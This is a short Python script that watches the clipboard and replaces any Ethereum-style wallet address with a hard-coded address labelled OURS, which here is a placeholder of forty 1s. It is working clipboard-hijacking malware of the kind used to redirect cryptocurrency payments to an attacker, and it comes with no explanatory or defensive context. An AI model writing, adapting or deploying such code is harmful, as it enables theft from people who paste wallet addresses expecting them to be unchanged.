import re
import time

import pyperclip

OURS = "0x" + "1" * 40


def watch():
    while True:
        if re.match(r"^0x[a-fA-F0-9]{40}$", pyperclip.paste()):
            pyperclip.copy(OURS)
        time.sleep(1)
